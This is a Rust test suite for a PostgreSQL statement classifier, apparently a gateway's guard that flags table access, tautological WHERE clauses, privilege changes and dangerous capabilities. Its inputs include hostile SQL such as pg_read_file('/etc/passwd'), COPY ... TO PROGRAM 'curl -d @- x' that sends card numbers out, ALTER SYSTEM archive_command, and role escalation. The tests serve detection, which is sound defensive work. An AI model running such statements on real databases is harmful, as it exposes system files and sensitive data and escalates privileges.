#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "test code")]

use super::*;

fn classify_all(sql: &str) -> Vec<Classified> {
    classify(sql, usize::MAX).unwrap()
}

fn one(sql: &str) -> PgStatement {
    let mut v = classify_all(sql);
    assert_eq!(v.len(), 1, "{sql}: {v:?}");
    v.remove(0).stmt
}

#[test]
fn selects_and_ctes() {
    let s = one(
        "WITH x AS (SELECT * FROM Infra.Hosts h) SELECT hostname FROM x JOIN app.orders o ON o.id = x.id",
    );
    assert_eq!(s.kind, PgKind::Select);
    assert_eq!(s.tables_read, ["infra.hosts", "app.orders"]);
    assert!(s.tables_written.is_empty());
    assert!(s.columns.contains(&"hostname".to_owned()));
    // A CTE named like a table hides it in the body, not inside its own definition.
    let s = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
    assert_eq!(s.tables_read, ["secrets"]);
    let s = one("WITH a AS (SELECT 1) SELECT * FROM a");
    assert!(s.tables_read.is_empty(), "{s:?}");
}

#[test]
fn dml_and_where() {
    let s = one("DELETE FROM app.orders");
    assert_eq!((s.kind.as_str(), s.has_where), ("delete", Some(false)));
    assert_eq!(s.tables_written, ["app.orders"]);
    let s = one("UPDATE t SET a = 1 WHERE id = 3");
    assert_eq!((s.kind.as_str(), s.has_where), ("update", Some(true)));
    assert!(s.columns.contains(&"a".to_owned()));
    let s = one("DELETE FROM t WHERE 1 = 1");
    assert_eq!(s.has_where, Some(false), "a constant WHERE filters nothing");
    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!((s.kind.as_str(), s.has_where), ("delete", Some(false)));
    assert_eq!(s.tables_written, ["t"]);
    let s = one("INSERT INTO a.b (x, y) SELECT x, y FROM c");
    assert_eq!(s.kind, PgKind::Insert);
    assert_eq!(
        (s.tables_written.clone(), s.tables_read.clone()),
        (vec!["a.b".to_owned()], vec!["c".to_owned()])
    );
}

#[test]
fn functions_and_danger() {
    let s = one("SELECT pg_catalog.PG_READ_FILE('/etc/passwd'), lower(x) FROM t");
    assert!(s.functions.contains(&"pg_catalog.pg_read_file".to_owned()));
    assert!(s.functions.contains(&"pg_read_file".to_owned()));
    assert_eq!(s.dangerous, ["pg_read_file"]);
    let s = one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)");
    assert_eq!(s.dangerous, ["dblink"]);
    assert!(s.tables_read.is_empty(), "{s:?}");
    let s = one("COPY t FROM PROGRAM 'curl x'");
    assert_eq!(
        (s.kind.as_str(), s.dangerous.clone()),
        ("copy", vec!["copy_program".to_owned()])
    );
    assert_eq!(s.tables_written, ["t"]);
    let s = one("COPY secrets TO STDOUT");
    assert_eq!(s.tables_read, ["secrets"]);
    let s = one("COPY (SELECT * FROM public.secrets) TO STDOUT");
    assert_eq!(s.tables_read, ["public.secrets"]);
    let s = one("SELECT set_config('role', 'postgres', false)");
    assert_eq!(s.privilege_change.as_deref(), Some("set_role"));
}

#[test]
fn ddl_privileges_transactions() {
    let s = one("DROP TABLE app.orders");
    assert_eq!(
        (s.kind.as_str(), s.ddl_target.as_deref()),
        ("drop", Some("app.orders"))
    );
    let s = one("GRANT ALL ON t TO bob");
    assert_eq!(
        (s.kind.as_str(), s.privilege_change.as_deref()),
        ("grant", Some("grant"))
    );
    let s = one("ALTER ROLE bob SUPERUSER");
    assert_eq!(s.privilege_change.as_deref(), Some("alter_role"));
    let s = one("SET ROLE postgres");
    assert_eq!(
        (s.kind.as_str(), s.privilege_change.as_deref()),
        ("set", Some("set_role"))
    );
    let s = one("BEGIN");
    assert_eq!(s.transaction_control.as_deref(), Some("begin"));
    let s = one("SAVEPOINT a");
    assert_eq!(s.transaction_control.as_deref(), Some("savepoint"));
}

#[test]
fn multi_statement_and_unparsed() {
    let v = classify_all("SELECT 1; DROP TABLE x; SELEC oops");
    assert_eq!(v.len(), 3);
    assert_eq!(v[1].stmt.kind, PgKind::Drop);
    assert_eq!(v[1].stmt.statement_index, 1);
    assert_eq!(v[2].stmt.statement_count, 3);
    assert_eq!(v[2].stmt.kind, PgKind::Unparsed);
    assert!(v[2].stmt.parse_error.is_some());
}

#[test]
fn prepare_and_execute_follow_the_session() {
    let mut s = SessionSql::default();
    let v = classify_all("PREPARE p AS DELETE FROM t; EXECUTE p");
    let a = s.resolve(&v[0]);
    assert_eq!(a.kind, PgKind::Prepare);
    let b = s.resolve(&v[1]);
    assert_eq!((b.kind.as_str(), b.has_where), ("delete", Some(false)));
    let c = s.resolve(&classify_all("EXECUTE q")[0]);
    assert_eq!(c.kind, PgKind::Unparsed);
}

#[test]
fn search_path_qualifies_names() {
    let mut s = SessionSql::default();
    let v = classify_all("SET search_path = auth, public; SELECT * FROM api_keys");
    s.resolve(&v[0]);
    let b = s.resolve(&v[1]);
    assert!(b.tables_read.contains(&"auth.api_keys".to_owned()), "{b:?}");
}

#[test]
fn cache_reuses_by_shape() {
    let c = Cache::new(16);
    let a = c
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1;", 1)
        .unwrap();
    let b = c
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2;", 1)
        .unwrap();
    assert_eq!(a.statements[0].stmt, b.statements[0].stmt);
    assert!(b.text(0).contains("aid = 2"), "{}", b.text(0));
}

#[test]
fn merge_is_what_its_actions_do() {
    let s =
        one("MERGE INTO app.orders o USING app.stage s ON o.id = s.id WHEN MATCHED THEN DELETE");
    assert_eq!((s.kind, s.has_where), (PgKind::Delete, Some(true)));
    assert_eq!(s.tables_written, ["app.orders"]);
    let s = one("MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE");
    assert_eq!((s.kind, s.has_where), (PgKind::Delete, Some(false)));
    let s = one("MERGE INTO t USING u ON t.id = t.id WHEN MATCHED THEN UPDATE SET a = 1");
    assert_eq!((s.kind, s.has_where), (PgKind::Update, Some(false)));
    let s = one(
        "MERGE INTO t USING u ON 1 = 1 WHEN MATCHED AND t.id = 4 THEN UPDATE SET a = 1 \
         WHEN NOT MATCHED THEN INSERT VALUES (1)",
    );
    assert_eq!((s.kind, s.has_where), (PgKind::Update, Some(true)));
    let s = one("MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (1)");
    assert_eq!(s.kind, PgKind::Merge);
}

#[test]
fn tautological_where_is_no_where() {
    for sql in [
        "DELETE FROM t WHERE id = id",
        "UPDATE t SET a = 1 WHERE true OR id = 3",
        "DELETE FROM t WHERE id IS NOT NULL",
        "WITH d AS (DELETE FROM t WHERE (SELECT true) RETURNING *) SELECT * FROM d",
        "DELETE FROM t x WHERE x.id = id",
    ] {
        assert_eq!(one(sql).has_where, Some(false), "{sql}");
    }
    assert_eq!(one("DELETE FROM t x WHERE x.id = 7").has_where, Some(true));
}

#[test]
fn what_neither_parser_accepts_is_unparsed_and_says_which_construct() {
    for (sql, reason) in [
        ("SELEC 1", "SELEC"),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON WIDGETS TO agent",
            "ALTER DEFAULT PRIVILEGES does not parse as PostgreSQL: syntax error at or near",
        ),
    ] {
        let s = one(sql);
        assert_eq!(s.kind, PgKind::Unparsed, "{sql}");
        assert!(s.fallback.is_none(), "{sql}");
        let e = s.parse_error.unwrap_or_default();
        assert!(e.contains(reason), "{sql}: {e}");
    }
    assert_eq!(one("VACUUM app.orders").kind, PgKind::Other);
    assert_eq!(one("NOTIFY ch").kind, PgKind::Other);
}

/// Statements the full classifier cannot parse or does not model are classified by
/// PostgreSQL's grammar: kind, objects, calls and capabilities, marked `fallback`.
#[test]
fn postgres_grammar_classifies_what_sqlparser_cannot() {
    struct Want {
        kind: PgKind,
        read: &'static [&'static str],
        written: &'static [&'static str],
        target: Option<&'static str>,
        dangerous: &'static [&'static str],
        privilege: Option<&'static str>,
    }
    const fn w(kind: PgKind) -> Want {
        Want {
            kind,
            read: &[],
            written: &[],
            target: None,
            dangerous: &[],
            privilege: None,
        }
    }
    let cases: Vec<(&str, Want)> = vec![
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO agent",
            Want {
                privilege: Some("grant"),
                ..w(PgKind::Grant)
            },
        ),
        (
            "ALTER DEFAULT PRIVILEGES FOR ROLE dba REVOKE ALL ON TABLES FROM agent",
            Want {
                privilege: Some("revoke"),
                ..w(PgKind::Revoke)
            },
        ),
        (
            "LOCK TABLE app.orders IN ACCESS EXCLUSIVE MODE",
            Want {
                read: &["app.orders"],
                ..w(PgKind::Other)
            },
        ),
        (
            "DROP DATABASE scratch WITH (FORCE)",
            Want {
                target: Some("scratch"),
                ..w(PgKind::Drop)
            },
        ),
        (
            "DROP OWNED BY agent CASCADE",
            Want {
                privilege: Some("drop_owned"),
                ..w(PgKind::Drop)
            },
        ),
        (
            "REASSIGN OWNED BY agent TO dba",
            Want {
                privilege: Some("reassign_owned"),
                ..w(PgKind::Alter)
            },
        ),
        (
            "CREATE USER MAPPING FOR agent SERVER remote OPTIONS (user 'x', password 'y')",
            Want {
                dangerous: &["foreign_server"],
                ..w(PgKind::Create)
            },
        ),
        (
            "ALTER TABLE app.orders SET SCHEMA archive",
            Want {
                written: &["app.orders"],
                target: Some("app.orders"),
                ..w(PgKind::Alter)
            },
        ),
        (
            "ALTER DATABASE app SET work_mem = '64MB'",
            Want {
                target: Some("app"),
                ..w(PgKind::Alter)
            },
        ),
        (
            "ALTER SYSTEM SET archive_command = 'curl x'",
            Want {
                dangerous: &["alter_system"],
                ..w(PgKind::Alter)
            },
        ),
        (
            "LOAD 'plugin'",
            Want {
                dangerous: &["load_library"],
                ..w(PgKind::Other)
            },
        ),
        (
            "CREATE SUBSCRIPTION s CONNECTION 'host=elsewhere' PUBLICATION p",
            Want {
                dangerous: &["subscription"],
                target: Some("s"),
                ..w(PgKind::Create)
            },
        ),
        // A query sqlparser cannot parse still names what it reads and calls.
        (
            "SELECT number FROM app.cards ORDER BY number USING <",
            Want {
                read: &["app.cards"],
                ..w(PgKind::Select)
            },
        ),
        (
            "SELECT substring(c.number similar '%' escape '#'), pg_read_file('/etc/passwd') FROM app.cards c",
            Want {
                read: &["app.cards"],
                dangerous: &["pg_read_file"],
                ..w(PgKind::Select)
            },
        ),
        // Writes hidden in a CTE of such a query decide its kind.
        (
            "WITH d AS (DELETE FROM app.orders RETURNING *) SELECT * FROM d ORDER BY id USING <",
            Want {
                read: &["app.orders", "d"],
                written: &["app.orders"],
                ..w(PgKind::Delete)
            },
        ),
        (
            "CREATE MATERIALIZED VIEW app.mv AS SELECT number FROM app.cards ORDER BY 1 USING <",
            Want {
                read: &["app.cards"],
                written: &["app.mv"],
                target: Some("app.mv"),
                ..w(PgKind::Create)
            },
        ),
        (
            "COPY (SELECT number FROM app.cards ORDER BY 1 USING <) TO PROGRAM 'curl -d @- x'",
            Want {
                read: &["app.cards"],
                dangerous: &["copy_program"],
                ..w(PgKind::Copy)
            },
        ),
        (
            "EXPLAIN (ANALYZE) UPDATE app.orders SET n = 1 FROM app.cards c ORDER BY 1 USING <",
            Want {
                kind: PgKind::Unparsed,
                ..w(PgKind::Unparsed)
            },
        ),
    ];
    for (sql, want) in cases {
        let c = classify_all(sql).remove(0);
        let s = &c.stmt;
        assert_eq!(s.kind, want.kind, "{sql}: {s:?}");
        if want.kind == PgKind::Unparsed {
            continue;
        }
        assert!(s.fallback.is_some(), "{sql}: {s:?}");
        let sorted = |v: &[String]| {
            let mut v = v.to_vec();
            v.sort();
            v
        };
        assert_eq!(sorted(&s.tables_read), want.read, "{sql}");
        assert_eq!(sorted(&s.tables_written), want.written, "{sql}");
        if let Some(t) = want.target {
            assert_eq!(s.ddl_target.as_deref(), Some(t), "{sql}");
        }
        for d in want.dangerous {
            assert!(
                s.dangerous.iter().any(|x| x == d),
                "{sql}: {:?}",
                s.dangerous
            );
        }
        assert_eq!(s.privilege_change.as_deref(), want.privilege, "{sql}");
        // Result columns are never traced: every one may hold any column.
        assert!(
            c.derived.columns(&["a", "b"], 2).iter().all(|x| x.opaque),
            "{sql}: {:?}",
            c.derived
        );
    }
}

/// Session changes the gateway follows are not guessed from the grammar.
#[test]
fn session_changes_the_fallback_cannot_follow_are_unresolved() {
    for sql in ["SET search_path TO DEFAULT, app ORDER BY", "RESET ALL"] {
        let s = one(sql);
        if s.kind == PgKind::Unparsed || s.fallback.is_none() {
            continue;
        }
        assert!(s.unresolved.is_some(), "{sql}: {s:?}");
    }
    let s = one("SELECT * FROM otherdb.app.cards ORDER BY 1 USING <");
    assert!(s.unresolved.is_some_and(|u| u.contains("another database")));
}

#[test]
fn destructive_table_changes_are_labelled() {
    for (sql, label) in [
        ("ALTER TABLE app.orders DROP COLUMN note", "drop_column"),
        (
            "ALTER TABLE app.orders ALTER COLUMN note TYPE int USING 0",
            "alter_column_type",
        ),
        (
            "ALTER TABLE app.orders ALTER note SET DATA TYPE varchar(1)",
            "alter_column_type",
        ),
        (
            "ALTER TABLE app.orders DISABLE ROW LEVEL SECURITY",
            "disable_row_security",
        ),
        (
            "ALTER TABLE app.orders DISABLE TRIGGER ALL",
            "disable_trigger",
        ),
        ("ALTER TABLE app.orders RENAME TO orders_old", "rename"),
        ("ALTER TABLE app.orders RENAME COLUMN note TO n", "rename"),
    ] {
        let s = one(sql);
        assert_eq!(s.kind, PgKind::Alter, "{sql}");
        assert!(
            s.dangerous.iter().any(|d| d == label),
            "{sql}: {:?}",
            s.dangerous
        );
    }
    assert!(
        one("ALTER TABLE app.orders ADD COLUMN x int")
            .dangerous
            .is_empty()
    );
}

#[test]
fn do_blocks_are_dynamic_sql() {
    let s =
        one("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; PERFORM pg_read_file('/etc/passwd'); END $$");
    assert_eq!(s.kind, PgKind::Other);
    assert!(s.parse_error.is_none());
    assert!(
        s.dangerous.contains(&"dynamic_sql".to_owned()),
        "{:?}",
        s.dangerous
    );
    assert!(
        s.dangerous.contains(&"pg_read_file".to_owned()),
        "{:?}",
        s.dangerous
    );
}

#[test]
fn only_and_qualified_relations() {
    let s = one("select * from only secrets");
    assert_eq!(s.tables_read, ["secrets"], "{s:?}");
    let s =
        one("select * from app.orders o join only public.secrets s on true, only auth.api_keys");
    assert_eq!(
        s.tables_read,
        ["app.orders", "public.secrets", "auth.api_keys"],
        "{s:?}"
    );
    let s = one("delete from only app.orders");
    assert_eq!(
        (s.kind, s.tables_written.as_slice()),
        (PgKind::Delete, &["app.orders".to_owned()][..])
    );
    let s = one("update only app.orders set note = 'x'");
    assert_eq!(s.tables_written, ["app.orders"]);
    let s = one("select * from app.orders fetch first 1 rows only");
    assert_eq!(s.tables_read, ["app.orders"]);
}

#[test]
fn every_relation_reached() {
    for (sql, want) in [
        ("TABLE secrets", vec!["secrets"]),
        ("TABLE public.secrets", vec!["public.secrets"]),
        ("SELECT * FROM (TABLE secrets) s", vec!["secrets"]),
        ("WITH x AS (TABLE secrets) SELECT * FROM x", vec!["secrets"]),
        ("SELECT 1 UNION ALL TABLE secrets", vec!["secrets"]),
        (
            "SELECT a FROM t UNION SELECT b FROM u EXCEPT TABLE v",
            vec!["t", "u", "v"],
        ),
        (
            "SELECT * FROM (SELECT * FROM (SELECT s FROM secrets) a) b",
            vec!["secrets"],
        ),
        ("SELECT (SELECT max(s) FROM secrets)", vec!["secrets"]),
        (
            "SELECT * FROM t WHERE EXISTS (TABLE secrets)",
            vec!["t", "secrets"],
        ),
        ("COPY (TABLE secrets) TO STDOUT", vec!["secrets"]),
        (
            "SELECT * FROM t, LATERAL (SELECT * FROM secrets) s",
            vec!["t", "secrets"],
        ),
    ] {
        let s = one(sql);
        assert_eq!(s.tables_read, want, "{sql}: {s:?}");
    }
    let s = one("CREATE TABLE c AS TABLE secrets");
    assert!(s.tables_read.contains(&"secrets".to_owned()), "{s:?}");
    let s = one("INSERT INTO c TABLE secrets");
    assert_eq!(
        (s.tables_read.clone(), s.tables_written.clone()),
        (vec!["secrets".to_owned()], vec!["c".to_owned()])
    );
    // A CTE named like the table hides it.
    let s = one("WITH secrets AS (SELECT 1) TABLE secrets");
    assert!(s.tables_read.is_empty(), "{s:?}");
}

#[test]
fn database_qualified_names() {
    let mut s = SessionSql::new("app");
    s.database = "shop".into();
    let v = classify_all(
        "SELECT * FROM shop.public.secrets; SELECT * FROM other.public.secrets; DELETE FROM Shop.Public.Secrets",
    );
    let a = s.resolve(&v[0]);
    assert_eq!(a.tables_read, ["public.secrets"], "{a:?}");
    assert!(a.unresolved.is_none(), "{a:?}");
    let b = s.resolve(&v[1]);
    assert!(b.unresolved.is_some(), "{b:?}");
    let c = s.resolve(&v[2]);
    assert_eq!(c.tables_written, ["public.secrets"], "{c:?}");
}

#[test]
fn search_path_follows_transactions() {
    fn read_after(sql: &str) -> Vec<String> {
        let mut s = SessionSql::default();
        let v = classify_all(&format!("{sql}; SELECT * FROM api_keys"));
        let mut last = None;
        for c in &v {
            last = Some(s.resolve(c));
        }
        last.unwrap().tables_read
    }
    let auth = "auth.api_keys".to_owned();
    assert!(read_after("BEGIN; SET search_path = auth; COMMIT").contains(&auth));
    assert!(!read_after("BEGIN; SET search_path = auth; ROLLBACK").contains(&auth));
    assert!(!read_after("BEGIN; SET LOCAL search_path = auth; COMMIT").contains(&auth));
    assert!(read_after("BEGIN; SET LOCAL search_path = auth").contains(&auth));
    assert!(!read_after("SET LOCAL search_path = auth").contains(&auth));
    assert!(
        !read_after("BEGIN; SAVEPOINT a; SET search_path = auth; ROLLBACK TO SAVEPOINT a")
            .contains(&auth)
    );
    assert!(
        read_after(
            "BEGIN; SET search_path = auth; SAVEPOINT a; SET search_path = x; ROLLBACK TO a"
        )
        .contains(&auth)
    );
    assert!(
        read_after("BEGIN; SAVEPOINT a; SET search_path = auth; RELEASE a; COMMIT").contains(&auth)
    );
    assert!(
        read_after("SET search_path = auth; BEGIN; SET LOCAL search_path = x; ROLLBACK")
            .contains(&auth)
    );
    assert!(
        read_after("BEGIN; SELECT set_config('search_path', 'auth', false); COMMIT")
            .contains(&auth)
    );
    assert!(
        !read_after("BEGIN; SELECT set_config('search_path', 'auth', true); COMMIT")
            .contains(&auth)
    );
    assert!(read_after("BEGIN; SELECT set_config('search_path', 'auth', true)").contains(&auth));
}

#[test]
fn updating_pg_settings_is_set_config() {
    let c = &classify_all("UPDATE pg_settings SET setting = 'auth' WHERE name = 'search_path'")[0];
    assert_eq!(c.stmt.privilege_change.as_deref(), Some("set_config"));
    assert!(
        matches!(c.effect, Some(SqlEffect::SearchPathUnknown)),
        "{:?}",
        c.effect
    );
}
